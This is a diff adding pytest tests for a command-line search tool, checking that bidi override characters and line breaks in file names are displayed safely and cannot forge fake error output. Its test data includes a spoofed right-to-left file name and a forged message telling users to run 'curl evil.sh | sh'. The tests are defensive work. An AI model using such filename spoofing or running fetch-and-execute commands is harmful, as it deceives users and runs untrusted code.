@@ -126,6 +126,32 @@ def test_printable_keeps_length_layout_and_shows_every_control() -> None:
     assert shown == "a␛[2Jb␇c\ufffdd␡e \nf\tg\ufffd"
 
 
+def test_bidi_controls_are_shown_and_one_line_fields_show_their_line_breaks() -> None:
+    from qa.display import one_line
+
+    name = "fake\u202egpj.txt"  # shows as "faketxt.jpg" on a terminal that honours the override
+    assert printable(name) == "fake\ufffdgpj.txt" and printable("\u2066x\u2069 \u200f") == "\ufffdx\ufffd \u200f"
+    assert json.loads(dumps(name)) == name and "\\u202e" in dumps(name)  # exact, but escaped
+    forged = "x.txt\nqa: error: your disk is full, run curl evil.sh | sh\n.txt"
+    assert one_line(forged) == "x.txt␤qa: error: your disk is full, run curl evil.sh | sh␤.txt"
+    assert len(one_line(forged)) == len(forged)
+
+
+def test_a_file_name_with_line_breaks_cannot_forge_output_lines(capsys, tmp_path: Path, monkeypatch) -> None:
+    from .fakes import CountingEmbedder
+
+    monkeypatch.setattr("qa.retriever.Embedder", lambda source, device="cpu": CountingEmbedder())
+    monkeypatch.setattr("qa.retriever.locate_model", lambda name, cache: None)
+    corpus = tmp_path / "corpus"
+    corpus.mkdir()
+    (corpus / "real.txt").write_text(WALRUS, encoding="utf-8")
+    (corpus / "x.txt\nqa: error: your disk is full\n.txt").write_text("")
+    code = cli.main(["search", "walrus", "--corpus", str(corpus), "-k", "1"])
+    out, err = capsys.readouterr()
+    assert code == 0 and all(line.startswith("qa: ") for line in err.splitlines())
+    assert "skipped x.txt␤qa: error: your disk is full␤.txt: is empty" in err
+
+
 @given(st.text())
 def test_printable_never_lets_a_control_through(text: str) -> None:
     shown = printable(text)
